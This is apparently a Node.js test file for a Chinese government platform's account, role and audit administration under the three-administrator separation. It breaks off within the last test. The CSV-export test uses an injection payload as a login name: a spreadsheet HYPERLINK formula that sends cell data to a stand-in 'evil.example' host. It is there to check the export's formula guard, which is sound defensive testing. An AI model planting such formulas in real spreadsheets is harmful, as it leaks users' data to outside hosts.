// User and role administration under the separation of the 三员 (系统管理员, 安全管理员, 审计员),
// the life of an account from creation to reset, and the auditor's CSV export of the audit log.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, runVerb } from './lib/harness.mjs';
import { req, assertError, dbExec } from './lib/checks.mjs';
import { createRequire } from 'node:module';
import http from 'node:http';
import { login, session, as, loginKey } from './lib/auth.mjs';

const { sm2 } = createRequire(import.meta.url)('sm-crypto');

let srv;
const s = {}; // sessions of the demo accounts
const sql = (q) => dbExec(srv.env.JIANGUAN_DATABASE, q).trim();
const idOf = (username) => Number(sql(`SELECT id FROM app_user WHERE username = '${username}'`));
const deptId = (code) => Number(sql(`SELECT id FROM department WHERE code = '${code}'`));
const today = () => new Date(Date.now() + 8 * 3600e3).toISOString().slice(0, 10); // Asia/Shanghai

before(async () => {
  srv = await startServer({
    projects: 120,
    env: { JIANGUAN_CAPTCHA: 'off', JIANGUAN_LOGIN_MAX_FAILURES: '3', JIANGUAN_AUTH_RATE_PER_MINUTE: '100000' },
  });
  for (const u of ['admin', 'secadmin', 'auditor', 'province']) s[u] = await session(srv, u);
});
after(async () => { assert.equal(await srv.stop(), 0); });

let serial = 0;
/** Create a government account bound to a department as the 系统管理员: { id, password, user }. */
async function createUser(fields = {}) {
  const username = fields.username || `user_${++serial}_${Date.now() % 100000}`;
  const body = { username, display_name: '测试用户', kind: 'government', department_id: deptId('350102-station'), ...fields };
  const r = await as(srv, s.admin, '/api/v1/users', { method: 'POST', body });
  assert.equal(r.status, 201, r.text);
  return { id: r.json.user.id, username, password: r.json.initial_password, user: r.json.user };
}

/** Log in with the initial password and change it: a session ready to work. */
async function firstLogin(u, fresh = 'Fresh@2026pw') {
  const s0 = await session(srv, u.username, u.password);
  assert.equal(s0.user.must_change_password, true);
  const key = await loginKey(srv);
  const r = await as(srv, s0, '/api/v1/auth/password', {
    method: 'POST',
    body: { old_password: sm2.doEncrypt(u.password, key, 1), new_password: sm2.doEncrypt(fresh, key, 1) },
  });
  assert.equal(r.status, 200, r.text);
  return session(srv, u.username, fresh);
}

function grant(id, role, extra = {}) {
  return as(srv, s.secadmin, `/api/v1/users/${id}/role`, { method: 'POST', body: { role, ...extra } });
}

function auditRows(action) {
  const out = sql(`SELECT detail FROM audit_log WHERE action = '${action}' ORDER BY id`);
  return out ? out.split('\n').map((l) => JSON.parse(l)) : [];
}

test('the demo staff of the role templates belong to their region\'s station', async () => {
  for (const [u, role, scope, dept] of [
    ['gulou_chief', 'station_chief', 'region', '350102-station'], ['fuzhou_clerk', 'clerk', 'department', '3501-station'],
    ['gulou', 'inspector', 'region', '350102-station'], ['province', 'province_admin', 'province', '35-station'],
  ]) {
    const me = (await session(srv, u)).user;
    assert.equal(me.role, role);
    assert.equal(me.scope, scope);
    assert.equal(me.department_id, deptId(dept), u);
  }
  const expert = (await session(srv, 'expert')).user;
  assert.equal(expert.kind, 'expert');
  assert.equal(expert.department_id, undefined);
  const chief = await session(srv, 'gulou_chief');
  const r = await as(srv, chief, '/api/v1/projects?size=200');
  assert.ok(r.json.items.length > 0 && r.json.items.every((p) => p.org_code.startsWith('350102')));
});

test('the 系统管理员 manages accounts but grants no role and edits no role', async () => {
  const u = await createUser();
  assert.equal(u.user.role, null, 'a new account has no role');
  assert.equal(u.user.org_code, '350102', 'its region is its department\'s');
  assert.match(u.password, /^.{12}$/);
  for (const [path, method, body] of [
    [`/api/v1/users/${u.id}/role`, 'POST', { role: 'inspector' }],
    ['/api/v1/roles', 'POST', { code: 'x_role', name: '某角色', user_kind: 'government', scope: 'region', permissions: [] }],
    ['/api/v1/roles/inspector', 'PUT', { version: 1, permissions: [] }],
    ['/api/v1/roles/inspector', 'DELETE', undefined],
    ['/api/v1/permissions', 'GET', undefined],
    ['/api/v1/audit', 'GET', undefined],
    [`/api/v1/audit/export?from=${today()}&to=${today()}`, 'GET', undefined],
    ['/api/v1/projects', 'GET', undefined],
  ]) {
    const r = await as(srv, s.admin, path, { method, body });
    assert.equal(r.status, 403, `${method} ${path}: ${r.text}`);
    assertError(r.json, 'forbidden');
  }
  assert.equal((await as(srv, s.admin, '/api/v1/roles')).status, 200, 'he may read the roles');
  assert.equal((await as(srv, s.admin, '/api/v1/users')).status, 200);
});

test('the 安全管理员 grants roles but creates no account and resets no password', async () => {
  const u = await createUser();
  for (const [path, method, body] of [
    ['/api/v1/users', 'POST', { username: 'from_secadmin', display_name: '某人', kind: 'government', department_id: deptId('3501-station') }],
    [`/api/v1/users/${u.id}`, 'PUT', { version: 1, display_name: '改名' }],
    [`/api/v1/users/${u.id}/reset-password`, 'POST', undefined],
    [`/api/v1/users/${u.id}/unlock`, 'POST', undefined],
    ['/api/v1/audit', 'GET', undefined],
    [`/api/v1/audit/export?from=${today()}&to=${today()}`, 'GET', undefined],
  ]) {
    const r = await as(srv, s.secadmin, path, { method, body });
    assert.equal(r.status, 403, `${method} ${path}: ${r.text}`);
  }
  assert.equal(sql("SELECT COUNT(*) FROM app_user WHERE username = 'from_secadmin'"), '0');
  const list = await as(srv, s.secadmin, '/api/v1/users?size=100');
  assert.equal(list.status, 200, 'he lists users, to grant them roles');
  assert.ok(list.json.items.some((x) => x.id === u.id));
  assert.equal((await grant(u.id, 'inspector')).status, 200);
});

test('the 审计员 only reads and exports the audit log', async () => {
  const u = await createUser();
  for (const [path, method, body] of [
    ['/api/v1/users', 'GET', undefined],
    [`/api/v1/users/${u.id}`, 'GET', undefined],
    ['/api/v1/users', 'POST', { username: 'from_auditor', display_name: '某人', kind: 'expert' }],
    [`/api/v1/users/${u.id}/role`, 'POST', { role: 'inspector' }],
    [`/api/v1/users/${u.id}/reset-password`, 'POST', undefined],
    ['/api/v1/roles', 'GET', undefined],
    ['/api/v1/roles', 'POST', { code: 'y_role', name: '某角色', user_kind: 'expert', scope: 'none', permissions: [] }],
  ]) {
    const r = await as(srv, s.auditor, path, { method, body });
    assert.equal(r.status, 403, `${method} ${path}: ${r.text}`);
  }
  assert.equal((await as(srv, s.auditor, '/api/v1/audit')).status, 200);
  // and ordinary users do none of it
  for (const path of ['/api/v1/users', '/api/v1/roles', '/api/v1/audit']) assert.equal((await as(srv, s.province, path)).status, 403, path);
});

test('nobody grants a 三员 role, and no 三员 account is changed through the API, not even by itself', async () => {
  const u = await createUser();
  for (const role of ['platform_admin', 'security_admin', 'auditor']) {
    const r = await grant(u.id, role);
    assert.equal(r.status, 403, role);
    assertError(r.json, 'forbidden');
  }
  const ids = { admin: idOf('admin'), secadmin: idOf('secadmin'), auditor: idOf('auditor') };
  for (const [who, id] of Object.entries(ids)) {
    const detail = (await as(srv, s.admin, `/api/v1/users/${id}`)).json;
    assert.equal(detail.reserved, 1);
    for (const [path, method, body] of [
      [`/api/v1/users/${id}`, 'PUT', { version: detail.version, display_name: '改名', status: 'disabled' }],
      [`/api/v1/users/${id}/reset-password`, 'POST', undefined],
      [`/api/v1/users/${id}/unlock`, 'POST', undefined],
    ]) {
      const r = await as(srv, s.admin, path, { method, body });
      assert.equal(r.status, 403, `admin ${method} ${path} on ${who}: ${r.text}`);
    }
    const r = await grant(id, 'inspector');
    assert.equal(r.status, 403, `secadmin grants a role to ${who}`);
  }
  assert.equal(sql(`SELECT role || ' ' || status || ' ' || display_name FROM app_user WHERE id = ${ids.admin}`), 'platform_admin active 系统管理员');
  // the reserved roles themselves are out of reach, and so are their permissions
  const reserved = (await as(srv, s.secadmin, '/api/v1/roles/security_admin')).json;
  assert.equal(reserved.reserved, true);
  let r = await as(srv, s.secadmin, '/api/v1/roles/security_admin', { method: 'PUT', body: { version: reserved.version, permissions: ['role.manage', 'user.manage'] } });
  assert.equal(r.status, 403);
  r = await as(srv, s.secadmin, '/api/v1/roles/auditor', { method: 'DELETE' });
  assert.equal(r.status, 403);
  for (const perm of ['user.manage', 'role.manage', 'audit.read', 'audit.export', 'app_client.manage']) {
    r = await as(srv, s.secadmin, '/api/v1/roles', { method: 'POST', body: { code: 'sneaky', name: '越权角色', user_kind: 'government', scope: 'province', permissions: ['project.read', perm] } });
    assert.equal(r.status, 400, perm);
    assert.ok(assertError(r.json, 'invalid').fields.permissions);
  }
  const inspector = (await as(srv, s.secadmin, '/api/v1/roles/inspector')).json;
  r = await as(srv, s.secadmin, '/api/v1/roles/inspector', { method: 'PUT', body: { version: inspector.version, permissions: ['project.read', 'audit.read'] } });
  assert.equal(r.status, 400);
  const perms = (await as(srv, s.secadmin, '/api/v1/permissions')).json.items;
  assert.ok(perms.find((p) => p.code === 'project.read').grantable);
  assert.equal(perms.find((p) => p.code === 'user.manage').grantable, false);
  assert.match(perms.find((p) => p.code === 'project.read').name, /[\u4e00-\u9fff]/);
});

test('create, grant, first login with the initial password, forced change, then data by the role\'s scope', async () => {
  const u = await createUser({ display_name: '鼓楼新监督员' });
  const first = await session(srv, u.username, u.password);
  assert.equal(first.user.must_change_password, true);
  let r = await as(srv, first, '/api/v1/projects');
  assert.equal(r.status, 403);
  assertError(r.json, 'password_change_required');
  const ready = await firstLogin(u);
  r = await as(srv, ready, '/api/v1/projects');
  assert.equal(r.status, 403, 'no role yet: nothing');
  r = await grant(u.id, 'enterprise_admin');
  assert.equal(r.status, 400, 'a role for another kind of user');
  assert.ok(assertError(r.json, 'invalid').fields.role);
  r = await grant(u.id, 'no_such_role');
  assert.equal(r.status, 400);
  r = await grant(u.id, 'inspector');
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.role, 'inspector');
  r = await as(srv, ready, '/api/v1/projects?size=200');
  assert.equal(r.status, 200, 'the same session sees data at once');
  const expected = Number(sql("SELECT COUNT(*) FROM project WHERE org_code LIKE '350102%'"));
  assert.ok(expected > 0);
  assert.equal(r.json.items.length, expected);
  assert.ok(r.json.items.every((p) => p.org_code.startsWith('350102')));
  // the grant and the creation are audited with before and after, never with a password
  const created = auditRows('user_create').find((d) => d.after.id === u.id);
  assert.equal(created.before, null);
  assert.equal(created.after.username, u.username);
  const grants = auditRows('user_role_grant').filter((d) => d.after.role === 'inspector' && d.before.role === null);
  assert.ok(grants.length >= 1);
  const all = sql('SELECT detail FROM audit_log WHERE detail IS NOT NULL');
  assert.ok(!all.includes(u.password) && !all.includes('Fresh@2026pw') && !all.includes('pbkdf2'), 'no password in the audit log');
});

test('a role edit takes effect on the next request of a logged-in user; a used role cannot be deleted', async () => {
  let r = await as(srv, s.secadmin, '/api/v1/roles', {
    method: 'POST', body: { code: 'reader_test', name: '项目查阅（测试）', user_kind: 'government', scope: 'region', permissions: ['project.read'] },
  });
  assert.equal(r.status, 201, r.text);
  assert.deepEqual(r.json.permissions, ['project.read']);
  assert.equal(r.json.builtin, false);
  r = await as(srv, s.secadmin, '/api/v1/roles', {
    method: 'POST', body: { code: 'reader_test', name: '重复', user_kind: 'government', scope: 'region', permissions: [] },
  });
  assert.equal(r.status, 409, 'duplicate code');
  const u = await createUser();
  const us = await firstLogin(u);
  assert.equal((await grant(u.id, 'reader_test')).status, 200);
  assert.equal((await as(srv, us, '/api/v1/projects')).status, 200);
  let role = (await as(srv, s.secadmin, '/api/v1/roles/reader_test')).json;
  assert.equal(role.users, 1);
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'PUT', body: { version: role.version, permissions: [] } });
  assert.equal(r.status, 200, r.text);
  assert.equal((await as(srv, us, '/api/v1/projects')).status, 403, 'the permission is gone at once');
  // stale version
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'PUT', body: { version: role.version, permissions: ['project.read'] } });
  assert.equal(r.status, 409);
  assertError(r.json, 'conflict');
  role = (await as(srv, s.secadmin, '/api/v1/roles/reader_test')).json;
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'PUT', body: { version: role.version, permissions: ['project.read'], scope: 'department' } });
  assert.equal(r.status, 200);
  r = await as(srv, us, '/api/v1/projects?size=200');
  assert.ok(r.json.items.every((p) => p.org_code === '350102'), 'the narrower scope applies at once');
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'PUT', body: { version: role.version + 1, scope: 'enterprise' } });
  assert.equal(r.status, 400, 'a scope that does not fit the kind of user');
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'PUT', body: { version: role.version + 1, user_kind: 'enterprise' } });
  assert.equal(r.status, 400, 'the kind of user is fixed');
  // delete: used → 409; builtin → 409; unknown → 404; unused → 200
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'DELETE' });
  assert.equal(r.status, 409);
  assertError(r.json, 'conflict');
  r = await as(srv, s.secadmin, '/api/v1/roles/clerk', { method: 'DELETE' });
  assert.equal(r.status, 409, 'templates stay');
  assert.equal((await as(srv, s.secadmin, '/api/v1/roles/no_such', { method: 'DELETE' })).status, 404);
  assert.equal((await grant(u.id, null)).status, 200, 'role taken away');
  assert.equal((await as(srv, us, '/api/v1/projects')).status, 403);
  r = await as(srv, s.secadmin, '/api/v1/roles/reader_test', { method: 'DELETE' });
  assert.equal(r.status, 200, r.text);
  assert.equal((await as(srv, s.secadmin, '/api/v1/roles/reader_test')).status, 404);
  // audited with before and after
  const created = auditRows('role_create').find((d) => d.after.code === 'reader_test');
  assert.deepEqual(created.after.permissions, ['project.read']);
  const updates = auditRows('role_update').filter((d) => d.after.code === 'reader_test');
  assert.ok(updates.some((d) => d.before.permissions.length === 1 && d.after.permissions.length === 0));
  const deleted = auditRows('role_delete').find((d) => d.before.code === 'reader_test');
  assert.equal(deleted.after, null);
});

test('role input is checked: code, name, kind, scope, permissions, unknown keys', async () => {
  const post = (body) => as(srv, s.secadmin, '/api/v1/roles', { method: 'POST', body });
  const base = { code: 'ok_role', name: '角色', user_kind: 'enterprise', scope: 'enterprise', permissions: ['project.read'] };
  for (const [change, field] of [
    [{ code: 'A' }, 'code'], [{ code: 'has space' }, 'code'], [{ name: '' }, 'name'], [{ user_kind: 'admin' }, 'user_kind'],
    [{ scope: 'province' }, 'scope'], [{ permissions: ['no.such'] }, 'permissions'], [{ permissions: 'project.read' }, 'permissions'],
    [{ permissions: ['project.read', 'project.read'] }, 'permissions'], [{ reserved: true }, 'reserved'],
  ]) {
    const r = await post({ ...base, ...change });
    assert.equal(r.status, 400, JSON.stringify(change));
    assert.ok(assertError(r.json, 'invalid').fields[field], JSON.stringify(change) + r.text);
  }
  const r = await post({ ...base, code: 'expert_reviewer', user_kind: 'expert', scope: 'none', permissions: [] });
  assert.equal(r.status, 201);
});

test('account input is checked: username rules, duplicates, bindings by kind', async () => {
  const post = (body) => as(srv, s.admin, '/api/v1/users', { method: 'POST', body });
  const dept = deptId('3501-station');
  const base = { username: 'valid.name-1', display_name: '某人', kind: 'government', department_id: dept };
  for (const [change, field] of [
    [{ username: 'ab' }, 'username'], [{ username: 'x'.repeat(33) }, 'username'], [{ username: '中文名' }, 'username'],
    [{ username: 'a b c' }, 'username'], [{ display_name: '' }, 'display_name'], [{ kind: 'admin' }, 'kind'],
    [{ department_id: undefined }, 'department_id'], [{ department_id: 999999 }, 'department_id'],
    [{ enterprise_id: 1 }, 'enterprise_id'], [{ role: 'inspector' }, 'role'], [{ password: 'Abc@12345' }, 'password'],
  ]) {
    const r = await post({ ...base, ...change });
    assert.equal(r.status, 400, JSON.stringify(change) + r.text);
    assert.ok(assertError(r.json, 'invalid').fields[field], JSON.stringify(change) + r.text);
  }
  let r = await post(base);
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.user.org_code, '3501');
  assert.equal(r.json.user.department_id, dept);
  r = await post({ ...base, username: 'VALID.name-1' });
  assert.equal(r.status, 409, 'a name differing only in case is taken');
  r = await post({ ...base, username: 'gulou' });
  assert.equal(r.status, 409);
  assertError(r.json, 'conflict');
  // experts: a region of their own
  r = await post({ username: 'expert_1', display_name: '张专家', kind: 'expert', org_code: '3502' });
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.user.org_code, '3502');
  r = await post({ username: 'expert_2', display_name: '李专家', kind: 'expert', org_code: '3599' });
  assert.equal(r.status, 400);
  r = await post({ username: 'expert_3', display_name: '赵专家', kind: 'expert', department_id: null, enterprise_id: null });
  assert.equal(r.status, 201, 'bindings of other kinds may be given as null');
  assert.equal(r.json.user.org_code, '35');
  // enterprise accounts: bound to an enterprise, and to a person of that enterprise
  const now = '2026-01-01T00:00:00Z';
  dbExec(srv.env.JIANGUAN_DATABASE, `INSERT INTO enterprise (credit_code, name, kinds, org_code, created_at, updated_at) VALUES
    ('91350100TESTADMIN1', '福州测试建设有限公司', 'contractor', '3501', '${now}', '${now}'),
    ('91350200TESTADMIN2', '厦门测试监理有限公司', 'supervisor_firm', '3502', '${now}', '${now}')`);
  const e1 = Number(sql("SELECT id FROM enterprise WHERE credit_code = '91350100TESTADMIN1'"));
  const e2 = Number(sql("SELECT id FROM enterprise WHERE credit_code = '91350200TESTADMIN2'"));
  dbExec(srv.env.JIANGUAN_DATABASE, `INSERT INTO person (name, id_number_enc, id_number_bidx, id_number_mask, enterprise_id, created_at, updated_at)
    VALUES ('王测试', 'x', 'bidx-admin-test-1', '3501**********0011', ${e1}, '${now}', '${now}')`);
  const person = Number(sql("SELECT id FROM person WHERE id_number_bidx = 'bidx-admin-test-1'"));
  const ent = { username: 'ent_user', display_name: '王测试', kind: 'enterprise', enterprise_id: e1, person_id: person };
  r = await post({ ...ent, enterprise_id: e2 });
  assert.equal(r.status, 400, 'the person works elsewhere');
  assert.ok(assertError(r.json, 'invalid').fields.person_id);
  r = await post({ ...ent, enterprise_id: undefined, person_id: undefined });
  assert.equal(r.status, 400);
  r = await post({ ...ent, department_id: dept });
  assert.equal(r.status, 400);
  r = await post(ent);
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.user.org_code, '3501');
  assert.equal(r.json.user.enterprise_name, '福州测试建设有限公司');
  assert.equal(r.json.user.person_id, person);
  // an enterprise account gets enterprise roles only
  assert.equal((await grant(r.json.user.id, 'inspector')).status, 400);
  assert.equal((await grant(r.json.user.id, 'project_manager')).status, 200);
  // moving it to the other enterprise needs the person binding cleared
  const v = r.json.user.version + 1;
  let put = await as(srv, s.admin, `/api/v1/users/${r.json.user.id}`, { method: 'PUT', body: { version: v, enterprise_id: e2 } });
  assert.equal(put.status, 400, put.text);
  put = await as(srv, s.admin, `/api/v1/users/${r.json.user.id}`, { method: 'PUT', body: { version: v, enterprise_id: e2, person_id: null } });
  assert.equal(put.status, 200, put.text);
  assert.equal(put.json.org_code, '3502');
  assert.equal(put.json.person_id, null);
});

test('an account\'s phone (for SMS login) is sealed, shown masked, unique among active accounts, and can be cleared', async () => {
  const a = await createUser({ phone: '13912345678' });
  assert.equal(a.user.phone_mask, '139****5678');
  assert.ok(!JSON.stringify(a.user).includes('13912345678'));
  assert.equal(sql(`SELECT count(*) FROM app_user WHERE phone_enc LIKE '%13912345678%' OR phone_mask = '13912345678'`), '0');
  let r = await as(srv, s.admin, '/api/v1/users', {
    method: 'POST', body: { username: `dup_${Date.now() % 100000}`, display_name: '重复手机号', kind: 'government', department_id: deptId('350102-station'), phone: '13912345678' },
  });
  assert.equal(r.status, 409);
  assert.ok(r.json.error.fields.phone);
  r = await as(srv, s.admin, '/api/v1/users', {
    method: 'POST', body: { username: `bad_${Date.now() % 100000}`, display_name: '错误手机号', kind: 'government', department_id: deptId('350102-station'), phone: '1391234567' },
  });
  assert.equal(r.status, 400);
  assert.ok(r.json.error.fields.phone);
  r = await as(srv, s.admin, `/api/v1/users/${a.id}`, { method: 'PUT', body: { version: a.user.version, phone: null } });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.phone_mask, null);
  const audit = auditRows('user_update').at(-1);
  assert.equal(audit.before.phone_mask, '139****5678');
  assert.equal(audit.after.phone_mask, null);
});

test('listing filters: kind, role, org_code, status, keyword, paging', async () => {
  const get = async (q) => {
    const r = await as(srv, s.admin, '/api/v1/users?' + q);
    assert.equal(r.status, 200, q + r.text);
    return r.json;
  };
  let j = await get('kind=admin');
  assert.deepEqual(j.items.map((u) => u.username).sort(), ['admin', 'auditor', 'secadmin']);
  j = await get('role=inspector&size=100');
  assert.ok(j.items.length >= 3 && j.items.every((u) => u.role === 'inspector'));
  j = await get('org_code=3502&size=100');
  assert.ok(j.items.length >= 1 && j.items.every((u) => u.org_code.startsWith('3502')));
  j = await get('keyword=' + encodeURIComponent('鼓楼'));
  assert.ok(j.items.some((u) => u.username === 'gulou'));
  j = await get('keyword=' + encodeURIComponent('%'));
  assert.equal(j.items.length, 0, 'wildcards match literally');
  j = await get('role=none&size=100');
  assert.ok(j.items.every((u) => u.role === null));
  j = await get('size=2&page=1');
  assert.equal(j.items.length, 2);
  assert.equal(j.has_more, true);
  assert.ok(!('password_hash' in j.items[0]));
  for (const q of ['kind=robot', 'org_code=350', 'status=gone', 'size=0', 'page=abc']) {
    const r = await as(srv, s.admin, '/api/v1/users?' + q);
    assert.equal(r.status, 400, q);
  }
  assert.equal((await as(srv, s.admin, '/api/v1/users/999999')).status, 404);
  assert.equal((await as(srv, s.admin, '/api/v1/users/abc')).status, 404);
});

test('profile edits need the current version; disabling an account ends its sessions', async () => {
  const u = await createUser();
  const us = await firstLogin(u);
  let cur = (await as(srv, s.admin, `/api/v1/users/${u.id}`)).json;
  let r = await as(srv, s.admin, `/api/v1/users/${u.id}`, { method: 'PUT', body: { version: cur.version, display_name: '新名字', department_id: deptId('3501-station') } });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.display_name, '新名字');
  assert.equal(r.json.org_code, '3501', 'the region follows the department');
  r = await as(srv, s.admin, `/api/v1/users/${u.id}`, { method: 'PUT', body: { version: cur.version, display_name: '旧版本' } });
  assert.equal(r.status, 409);
  assertError(r.json, 'conflict');
  r = await as(srv, s.admin, `/api/v1/users/${u.id}`, { method: 'PUT', body: { display_name: '无版本' } });
  assert.equal(r.status, 400);
  r = await as(srv, s.admin, `/api/v1/users/${u.id}`, { method: 'PUT', body: { version: cur.version + 1, kind: 'expert' } });
  assert.equal(r.status, 400, 'the kind is fixed');
  r = await as(srv, s.admin, `/api/v1/users/${idOf('admin')}`, { method: 'PUT', body: { version: 1, display_name: '我自己' } });
  assert.equal(r.status, 403, 'not even on himself');
  assert.equal((await as(srv, us, '/api/v1/auth/me')).status, 200);
  cur = (await as(srv, s.admin, `/api/v1/users/${u.id}`)).json;
  r = await as(srv, s.admin, `/api/v1/users/${u.id}`, { method: 'PUT', body: { version: cur.version, status: 'disabled' } });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.status, 'disabled');
  assert.equal((await as(srv, us, '/api/v1/auth/me')).status, 401, 'the session ended');
  assert.equal((await login(srv, u.username, 'Fresh@2026pw')).status, 401, 'and no new one starts');
  const upd = auditRows('user_update').filter((d) => d.after.id === u.id);
  assert.ok(upd.some((d) => d.before.display_name === '测试用户' && d.after.display_name === '新名字' && d.before.org_code === '350102' && d.after.org_code === '3501'));
  assert.ok(upd.some((d) => d.before.status === 'active' && d.after.status === 'disabled' && d.after.sessions_revoked >= 1));
  r = await as(srv, s.admin, `/api/v1/users/${u.id}`, { method: 'PUT', body: { version: r.json.version, status: 'active' } });
  assert.equal(r.status, 200);
  assert.equal((await login(srv, u.username, 'Fresh@2026pw')).status, 200);
});

test('after a lockout the 系统管理员 unlocks the account', async () => {
  const u = await createUser();
  await firstLogin(u);
  for (let i = 0; i < 3; i++) assert.equal((await login(srv, u.username, 'Wrong@pass' + i)).status, 401);
  let r = await login(srv, u.username, 'Fresh@2026pw');
  assert.equal(r.status, 423);
  let detail = (await as(srv, s.admin, `/api/v1/users/${u.id}`)).json;
  assert.equal(detail.locked, true);
  assert.equal(detail.login_failures, 3);
  r = await as(srv, s.admin, `/api/v1/users/${u.id}/unlock`, { method: 'POST' });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.was_locked, true);
  detail = (await as(srv, s.admin, `/api/v1/users/${u.id}`)).json;
  assert.equal(detail.locked, false);
  assert.equal((await login(srv, u.username, 'Fresh@2026pw')).status, 200);
  const d = auditRows('user_unlock').at(-1);
  assert.equal(d.before.failures, 3);
  assert.equal(d.after, null);
});

test('a password reset gives a new initial password once, and ends the user\'s sessions', async () => {
  const u = await createUser();
  const us = await firstLogin(u);
  assert.equal((await as(srv, us, '/api/v1/auth/me')).status, 200);
  const r = await as(srv, s.admin, `/api/v1/users/${u.id}/reset-password`, { method: 'POST' });
  assert.equal(r.status, 200, r.text);
  assert.match(r.json.initial_password, /^.{12}$/);
  assert.equal(r.json.sessions_revoked, 2, 'the one of the initial password and the one after the change');
  assert.equal((await as(srv, us, '/api/v1/auth/me')).status, 401);
  assert.equal((await login(srv, u.username, 'Fresh@2026pw')).status, 401, 'the old password is gone');
  const again = await session(srv, u.username, r.json.initial_password);
  assert.equal(again.user.must_change_password, true);
  assert.equal((await as(srv, again, '/api/v1/users')).status, 403);
  const d = auditRows('user_reset_password').at(-1);
  assert.equal(d.after.must_change_password, 1);
  assert.equal(d.after.sessions_revoked, 2);
  assert.ok(!sql('SELECT detail FROM audit_log').includes(r.json.initial_password));
});

/** RFC 4180 parser: rows of cells. */
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', i = 0, quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      cell += c; i++; continue;
    }
    if (c === '"') { quoted = true; i++; continue; }
    if (c === ',') { row.push(cell); cell = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    cell += c; i++;
  }
  assert.equal(cell, '', 'the file ends with CRLF');
  assert.equal(row.length, 0);
  return rows;
}

const HEADERS = ['时间', '用户', '地址', '操作', '对象', '记录', '详情', '校验值'];

async function exportCsv(sess, query) {
  const r = await as(srv, sess, '/api/v1/audit/export?' + query);
  return r;
}

test('the audit export is CSV for Excel: BOM, Chinese headers, quoting, formula guard, filters; only for the 审计员', async () => {
  // Names tried at the login form land in the log as they were typed: a spreadsheet attack.
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我"),\n第二行';
  assert.equal((await login(srv, evil, 'Wrong@pass1')).status, 401);
  assert.equal((await login(srv, '@SUM(1+1)', 'Wrong@pass1')).status, 401);
  assert.equal((await login(srv, '-12.5', 'Wrong@pass1')).status, 401);
  const day = today();
  const r = await exportCsv(s.auditor, `from=${day}&to=${day}`);
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.equal(r.headers.get('content-disposition'), `attachment; filename="audit-${day}-${day}.csv"`);
  assert.equal(r.headers.get('content-length'), null, 'streamed, not buffered');
  assert.deepEqual([...r.buf.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
  const rows = parseCsv(r.buf.subarray(3).toString('utf8'));
  assert.deepEqual(rows[0], HEADERS);
  assert.ok(rows.slice(1).every((x) => x.length === 8), 'every row has 8 cells');
  const dbCount = Number(sql('SELECT COUNT(*) FROM audit_log'));
  assert.equal(rows.length - 1, dbCount, 'every row of today, including this export\'s own');
  const users = rows.map((x) => x[1]);
  assert.ok(users.includes("'" + evil), 'a formula gets an apostrophe and keeps its commas, quotes and newline');
  assert.ok(users.includes("'@SUM(1+1)"));
  assert.ok(users.includes('-12.5'), 'a plain number stays as it is');
  assert.ok(!users.some((u) => /^[=+@]/.test(u)), 'no cell starts a formula');
  const raw = r.buf.toString('utf8');
  assert.ok(raw.includes('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点我""),\n第二行"'), 'quotes doubled inside a quoted cell');
  const failed = rows.find((x) => x[3] === 'login_failed');
  assert.match(failed[0], /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/, 'Beijing time');
  assert.match(failed[7], /^[0-9a-f]{64}$/, 'the chain hash');
  const created = rows.find((x) => x[3] === 'user_create');
  assert.equal(JSON.parse(created[6]).before, null, 'the JSON detail survives the quoting');

  // filters
  let f = parseCsv((await exportCsv(s.auditor, `from=${day}&to=${day}&action=login_failed`)).buf.subarray(3).toString('utf8'));
  assert.ok(f.length > 4);
  assert.ok(f.slice(1).every((x) => x[3] === 'login_failed'));
  assert.equal(f.length - 1, Number(sql("SELECT COUNT(*) FROM audit_log WHERE action = 'login_failed'")));
  f = parseCsv((await exportCsv(s.auditor, 'from=2000-01-01&to=2000-01-31')).buf.subarray(3).toString('utf8'));
  assert.deepEqual(f, [HEADERS], 'nothing that month but the header');
  f = parseCsv((await exportCsv(s.auditor, `from=${day}&to=${day}&username=admin&action=user_create`)).buf.subarray(3).toString('utf8'));
  assert.ok(f.length > 1 && f.slice(1).every((x) => x[1] === 'admin' && x[3] === 'user_create'));
  for (const q of ['', `from=${day}`, 'from=2026-13-01&to=2026-12-31', 'from=2026-02-01&to=2026-01-01', `from=${day}&to=${day}&action=DROP TABLE`]) {
    const bad = await exportCsv(s.auditor, q);
    assert.equal(bad.status, 400, q);
    assertError(bad.json, 'invalid');
  }
  for (const u of ['admin', 'secadmin', 'province']) assert.equal((await exportCsv(s[u], `from=${day}&to=${day}`)).status, 403, u);

  // the export is audited, with its filter, before its rows are read
  const exports = auditRows('audit_export');
  assert.ok(exports.some((d) => d.from === day && d.to === day && d.action === 'login_failed'));
  const list = await as(srv, s.auditor, `/api/v1/audit?action=audit_export&from=${day}&to=${day}`);
  assert.equal(list.status, 200);
  assert.ok(list.json.items.length >= 4);
  assert.ok(list.json.items.every((x) => x.action === 'audit_export' && x.username === 'auditor'));
});

test('no route changes or removes audit rows', async () => {
  for (const path of ['/api/v1/audit', '/api/v1/audit/export']) {
    for (const method of ['PUT', 'DELETE', 'POST', 'PATCH']) {
